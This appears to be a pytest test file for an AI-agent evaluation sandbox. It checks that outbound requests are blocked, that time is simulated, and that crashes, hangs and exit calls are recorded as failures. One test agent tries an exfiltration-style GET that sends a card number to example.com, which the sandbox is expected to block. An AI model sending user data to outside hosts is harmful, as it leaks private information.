"""What the sandbox guarantees while an agent runs: virtual time, a closed network,
seeded randomness, and a recorded failure (never a broken session) for crashes and hangs."""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import multiprocessing
import os
import signal
import socket
import sys
import threading
import time
import urllib.error
import urllib.request

import httpx
import pytest

from harness import AgentEnv, AgentResult, Task, run_scenario
from harness.runtime import sandbox as sandbox_module
from harness.runtime.sandbox import _real_sleep
from harness.scenario.model import Scenario


def test_a_request_to_a_real_host_is_blocked_and_fails_security(
    small: Scenario,
) -> None:
    seen: list[str] = []

    def agent(task: Task, env: AgentEnv) -> None:
        try:
            env.http.get("https://example.com/exfiltrate?card=4242")
        except httpx.ConnectError as exc:
            seen.append(str(exc))

    result = run_scenario(small, agent, seed=1)
    assert seen
    assert seen[0].startswith("aqe: blocked outbound request to example.com")
    assert result.failed_oracles == ("security",)
    score = result.score("security")
    assert (
        score.explanation
        == "1 outbound request(s) to hosts outside the simulation were blocked"
    )
    assert (
        "blocked GET https://example.com/exfiltrate (via http)"
        in score.evidence[0].text
    )


def test_clients_made_inside_the_agent_are_routed_too(small: Scenario) -> None:
    def agent(task: Task, env: AgentEnv) -> AgentResult:
        with httpx.Client() as own:  # no credential: the fake answers 401
            status = own.get(
                f"https://payments.sim/v1/charges/{task.input['charge']}"
            ).status_code
        return AgentResult(summary=str(status))

    result = run_scenario(small, agent, seed=1)
    assert result.agent_result is not None
    assert result.agent_result.summary == "401"
    assert result.passed


def test_a_raw_socket_connection_is_refused_and_fails_security(small: Scenario) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        with socket.socket() as sock:
            try:
                sock.connect(("10.1.2.3", 443))
            except ConnectionRefusedError:
                return

    result = run_scenario(small, agent, seed=1)
    assert result.failed_oracles == ("security",)
    assert (
        "blocked CONNECT tcp://10.1.2.3:443 (via socket)"
        in result.score("security").evidence[0].text
    )


def test_urllib_to_a_real_host_is_blocked_by_its_door_and_fails_security(
    small: Scenario,
) -> None:
    seen: list[str] = []

    def agent(task: Task, env: AgentEnv) -> None:
        try:
            urllib.request.urlopen("http://example.com/", timeout=5)
        except urllib.error.URLError as exc:
            seen.append(str(exc.reason))

    started = time.perf_counter()
    result = run_scenario(small, agent, seed=1)
    assert time.perf_counter() - started < 5
    assert seen == [
        "[Errno 111] aqe: blocked outbound request to example.com: only simulated "
        "hosts are reachable during a run (api.anthropic.com, api.openai.com, "
        "api.stripe.com, calendar.sim, crm.sim, "
        "erp.sim, iam.sim, kb.sim, notify.sim, ops.sim, payments.sim, slack.com, tickets.sim)"
    ]
    assert result.failed_oracles == ("security",)
    assert (
        "blocked GET http://example.com/ (via http)"
        in result.score("security").evidence[0].text
    )


def test_a_client_without_a_door_is_stopped_at_name_lookup(small: Scenario) -> None:
    seen: list[str] = []

    def agent(task: Task, env: AgentEnv) -> None:
        connection = http.client.HTTPConnection("example.com", timeout=5)
        try:
            connection.request("GET", "/")
        except OSError as exc:
            seen.append(str(exc))
        finally:
            connection.close()

    started = time.perf_counter()
    result = run_scenario(small, agent, seed=1)
    assert time.perf_counter() - started < 5
    assert seen == [
        "[Errno -2] aqe: blocked name lookup of example.com: only simulated hosts "
        "are reachable during a run"
    ]
    assert result.failed_oracles == ("security",)
    assert (
        "blocked RESOLVE dns://example.com (via socket)"
        in result.score("security").evidence[0].text
    )


def test_sleeping_two_hours_costs_no_wall_time(small: Scenario) -> None:
    observed: dict[str, float] = {}

    def agent(task: Task, env: AgentEnv) -> None:
        observed["t0"], observed["m0"] = time.time(), time.monotonic()
        time.sleep(7200)
        observed["t1"], observed["m1"] = time.time(), time.monotonic()

    started = time.perf_counter()
    result = run_scenario(small, agent, seed=1)
    assert time.perf_counter() - started < 2
    assert observed["t1"] - observed["t0"] == 7200
    assert observed["m1"] - observed["m0"] == 7200
    assert observed["t0"] == 1_767_225_600.0  # runs start at 2026-01-01T00:00:00Z
    assert result.world.clock.now >= 7200
    assert time.time() > 1_767_225_600.0 + 10**6  # real time is back


def test_async_agents_sleep_in_simulated_time_and_use_ahttp(small: Scenario) -> None:
    async def agent(task: Task, env: AgentEnv) -> AgentResult:
        await asyncio.sleep(3600)
        response = await env.ahttp.get(
            f"https://payments.sim/v1/charges/{task.input['charge']}"
        )
        return AgentResult(
            summary=f"{response.status_code} at {asyncio.get_running_loop().time():.0f}"
        )

    started = time.perf_counter()
    result = run_scenario(small, agent, seed=1)
    assert time.perf_counter() - started < 2
    assert result.agent_result is not None
    assert result.agent_result.summary == "200 at 13600"


def test_asyncio_run_inside_a_sync_agent_also_runs_in_simulated_time(
    small: Scenario,
) -> None:
    async def work(env: AgentEnv, charge: str) -> int:
        await asyncio.sleep(7200)
        return (
            await env.ahttp.get(f"https://payments.sim/v1/charges/{charge}")
        ).status_code

    def agent(task: Task, env: AgentEnv) -> AgentResult:
        status = asyncio.run(work(env, task.input["charge"]))
        return AgentResult(summary=str(status))

    started = time.perf_counter()
    result = run_scenario(small, agent, seed=1)
    assert time.perf_counter() - started < 2
    assert result.agent_result is not None
    assert result.agent_result.summary == "200"
    assert result.world.clock.now >= 7200


def test_an_event_loop_a_sync_agent_leaves_open_is_closed_when_its_run_ends(
    small: Scenario,
) -> None:
    """As Pydantic AI's ``run_sync`` does: the thread's loop is kept for next time;
    left to the garbage collector it would warn in someone else's run."""
    left: list[asyncio.AbstractEventLoop] = []

    def agent(task: Task, env: AgentEnv) -> None:
        loop = asyncio.new_event_loop()
        asyncio.set_event_loop(loop)
        loop.run_until_complete(asyncio.sleep(60))
        left.append(loop)

    result = run_scenario(small, agent, seed=1)

    assert result.passed
    assert result.world.clock.now >= 60
    assert left[0].is_closed()
    assert result.warnings == ()


def test_a_crashing_agent_is_a_recorded_failure(small: Scenario) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        raise ValueError("model returned garbage")

    result = run_scenario(small, agent, seed=1)
    assert not result.passed
    assert result.failed_oracles[0] == "agent"
    assert result.score("agent").explanation.startswith(
        "the agent raised ValueError: model returned garbage at "
    )


def test_an_async_agent_waiting_forever_is_stopped_as_a_deadlock(
    small: Scenario,
) -> None:
    async def agent(task: Task, env: AgentEnv) -> None:
        await asyncio.Event().wait()

    result = run_scenario(small, agent, seed=1)
    assert result.score("agent").explanation == (
        "stopped by the harness (deadlock): the async agent is waiting for something "
        "that can never happen (no timer, no I/O, no tool call pending)"
    )


def test_an_endlessly_polling_agent_hits_the_simulated_time_limit(
    small: Scenario,
) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        while True:
            time.sleep(3600)

    started = time.perf_counter()
    result = run_scenario(small, agent, seed=1)
    assert time.perf_counter() - started < 5
    assert "stopped by the harness (time_limit)" in result.score("agent").explanation


def test_a_tool_call_loop_hits_the_call_budget(small: Scenario) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        while True:
            with contextlib.suppress(Exception):  # a careless agent swallows all
                env.tools.call("retrieve_charge", charge=task.input["charge"])

    result = run_scenario(small, agent, seed=1, max_calls=50)
    assert result.score("agent").explanation == (
        "stopped by the harness (call_budget): the agent made more than 50 tool "
        "calls; a runaway loop"
    )


def test_a_busy_loop_without_tool_calls_hits_the_wall_clock_limit(
    small: Scenario,
) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        while True:
            pass

    result = run_scenario(small, agent, seed=1, wall_timeout=1.0)
    assert "stopped by the harness (wall_timeout)" in result.score("agent").explanation


def test_a_crash_names_its_file_relative_to_the_checkout(small: Scenario) -> None:
    """The same run gives the same trace bytes wherever the project is checked out."""

    def agent(task: Task, env: AgentEnv) -> None:
        raise ValueError("model returned garbage")

    explanation = run_scenario(small, agent, seed=1).score("agent").explanation
    line = agent.__code__.co_firstlineno + 1
    assert explanation.endswith(f" at tests/runtime/test_sandbox.py:{line}")


def test_an_agent_calling_sys_exit_fails_its_run_and_the_run_is_still_scored(
    small: Scenario,
) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        sys.exit(0)

    result = run_scenario(small, agent, seed=1)

    assert not result.passed
    line = agent.__code__.co_firstlineno + 1
    assert result.score("agent").explanation == (
        "the agent tried to end the process: sys.exit(0) at"
        f" tests/runtime/test_sandbox.py:{line}"
    )
    assert result.score("idempotency") is not None  # the oracles still judged it


def test_a_keyboard_interrupt_the_agent_raises_itself_is_a_recorded_failure(
    small: Scenario,
) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        raise KeyboardInterrupt

    result = run_scenario(small, agent, seed=1)

    assert result.score("agent").explanation.startswith(
        "the agent raised KeyboardInterrupt at tests/runtime/test_sandbox.py:"
    )


def test_the_users_ctrl_c_during_a_run_still_stops_it(small: Scenario) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(1)  # simulated: the signal arrives before it returns

    # as in a terminal: pytest started as a background job of a non-interactive
    # shell has SIGINT ignored, and then no Ctrl-C reaches it at all
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with pytest.raises(KeyboardInterrupt):
            run_scenario(small, agent, seed=1)
        assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
    finally:
        signal.signal(signal.SIGINT, before)


def test_an_async_agent_waiting_on_work_in_a_thread_is_not_a_deadlock(
    small: Scenario,
) -> None:
    """``asyncio.to_thread`` work that takes longer than the idle grace (2 s of
    real time) is waited for; only a wait nothing can end is a deadlock."""

    def slow_work() -> str:
        _real_sleep(2.5)  # real work in a worker thread, longer than the grace
        return "done"

    async def agent(task: Task, env: AgentEnv) -> AgentResult:
        return AgentResult(status="done", summary=await asyncio.to_thread(slow_work))

    result = run_scenario(small, agent, seed=1)

    assert result.agent_result is not None
    assert result.agent_result.summary == "done"
    assert "agent" not in result.failed_oracles


def test_an_agent_calling_os_exit_fails_its_run_instead_of_ending_the_process(
    small: Scenario,
) -> None:
    def agent(task: Task, env: AgentEnv) -> None:
        os._exit(0)

    result = run_scenario(small, agent, seed=1)

    assert not result.passed
    assert result.score("agent").explanation == (
        "stopped by the harness (exit): the agent tried to end the process: os._exit(0)"
    )
    assert os._exit is sandbox_module._real_exit  # restored after the run


def test_os_exit_from_a_thread_of_the_agent_is_refused_and_fails_the_run(
    small: Scenario,
) -> None:
    def agent(task: Task, env: AgentEnv) -> AgentResult:
        worker = threading.Thread(target=os._exit, args=(3,))
        worker.start()
        worker.join()
        return AgentResult(status="done")

    result = run_scenario(small, agent, seed=1)

    assert result.score("agent").explanation == (
        "the agent tried to end the process: os._exit(3)"
    )


def test_a_forked_child_of_the_agent_still_exits_as_it_should(small: Scenario) -> None:
    def agent(task: Task, env: AgentEnv) -> AgentResult:
        child = multiprocessing.get_context("fork").Process(target=int)
        child.start()
        child.join(10)
        return AgentResult(status="done", summary=str(child.exitcode))

    result = run_scenario(small, agent, seed=1)

    assert result.agent_result is not None
    assert result.agent_result.summary == "0"
    assert "agent" not in result.failed_oracles


def test_datetime_now_is_the_runs_clock_in_the_run_and_real_time_after(
    small: Scenario,
) -> None:
    import datetime as dt

    seen: list[str] = []

    def agent(task: Task, env: AgentEnv) -> AgentResult:
        seen.append(dt.datetime.now(dt.UTC).isoformat())
        time.sleep(90)
        seen.append(dt.datetime.now(dt.UTC).isoformat())
        seen.append(dt.date.today().isoformat())
        return AgentResult(status="done")

    run_scenario(small, agent, seed=1)
    run_scenario(small, agent, seed=1)

    assert seen[:3] == [
        "2026-01-01T00:00:00+00:00",
        "2026-01-01T00:01:30+00:00",
        "2026-01-01",
    ]
    assert seen[:3] == seen[3:]
    assert dt.datetime.now(dt.UTC).year >= 2026
    assert dt.date.today() != dt.date(2026, 1, 1)


def test_a_thread_the_agent_leaves_running_fails_its_run(small: Scenario) -> None:
    stop = threading.Event()

    def agent(task: Task, env: AgentEnv) -> AgentResult:
        threading.Thread(target=stop.wait, name="poller").start()
        return AgentResult(status="done")

    try:
        result = run_scenario(small, agent, seed=1)
    finally:
        stop.set()

    assert result.failed_oracles == ("agent",)
    assert result.score("agent").explanation == (
        "the agent left 1 thread running after it returned (poller); their calls"
        " from then on are refused; stop and join its threads before returning"
    )
